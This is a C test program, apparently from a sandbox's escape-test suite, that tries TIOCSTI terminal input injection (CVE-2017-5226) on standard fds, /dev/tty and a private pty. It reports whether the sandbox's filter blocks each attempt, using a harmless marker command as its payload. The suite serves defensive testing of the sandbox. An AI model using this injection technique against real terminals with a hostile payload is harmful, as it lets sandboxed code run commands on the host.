/* ESC-01 tiocsti-inject: push "echo PWNED >/tmp/host-marker\n" into the
 * input queue of a terminal with TIOCSTI (CVE-2017-5226, bubblewrap#142),
 * on every standard fd and on /dev/tty.  The sandbox has no terminal at
 * all (a new session, and stockade relays a terminal on its stdin through
 * a pipe), and the filter refuses TIOCSTI whatever the fd: EPERM, also for
 * fd -1, where an unfiltered call would give EBADF. */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <termios.h>

static const char payload[] = "echo PWNED >/tmp/host-marker\n";

/* One line per fd: the first character that fails ends it; "ok" only if
 * every character was pushed. */
static void inject(const char *name, int fd)
{
	long r = 0;
	int e = 0;
	for (const char *c = payload; *c && r >= 0; c++) {
		errno = 0;
		r = syscall(SYS_ioctl, fd, (unsigned long)TIOCSTI, c);
		e = errno;
	}
	report(name, r, e);
}

/* The run's own terminals (the terminals group): a pty of its own, made
 * its controlling terminal, takes no injected input either, and the
 * devpts instance shows no terminal of the host's. */
static void private_pty(void)
{
	int master = TRY("open-dev-ptmx", open("/dev/ptmx", O_RDWR | O_NOCTTY));
	if (master < 0)
		return;
	int n = 0;
	DIR *d = opendir("/dev/pts");
	for (struct dirent *e; d && (e = readdir(d));)
		n += e->d_name[0] != '.';
	if (d)
		closedir(d);
	note("entries in /dev/pts with one pty open: %d", n);
	report("payoff-host-pts-visible", n > 2 ? 0 : -1, ENOENT);
	TRY("unlockpt", unlockpt(master));
	const char *slave_name = ptsname(master);
	/* A session of its own, whose controlling terminal the pty becomes. */
	pid_t child = fork();
	if (child == 0) {
		TRY("setsid", setsid());
		int slave = slave_name
				    ? TRY("open-pts", open(slave_name, O_RDWR))
				    : -1;
		if (slave >= 0)
			TRY("tiocsctty-own-pts", ioctl(slave, TIOCSCTTY, 0));
		inject("tiocsti-own-master", master);
		if (slave >= 0)
			inject("tiocsti-own-pts", slave);
		_exit(0);
	}
	if (child > 0)
		waitpid(child, NULL, 0);
}

int main(void)
{
	char name[64];
	struct termios t;
	/* A terminal on the caller's stdin reaches the sandbox as a pipe. */
	for (int fd = 0; fd < 3; fd++) {
		snprintf(name, sizeof(name), "tcgets-fd%d", fd);
		TRY(name, ioctl(fd, TCGETS, &t));
	}
	note("session %ld, process group %ld, pid %ld", (long)getsid(0),
	     (long)getpgrp(), (long)getpid());
	/* No controlling terminal: /dev/tty is absent from the minimal /dev,
	 * and would give ENXIO without one. */
	int tty = TRY("open-dev-tty", open("/dev/tty", O_RDWR | O_NOCTTY));
	/* Take a terminal as controlling tty if one were reachable at all. */
	TRY("tiocsctty-fd0", ioctl(0, TIOCSCTTY, 0));
	for (int fd = 0; fd < 3; fd++) {
		snprintf(name, sizeof(name), "tiocsti-fd%d", fd);
		inject(name, fd);
	}
	if (tty >= 0)
		inject("tiocsti-dev-tty", tty);
	inject("tiocsti-badfd", -1);
	private_pty();
	done();
	return 0;
}
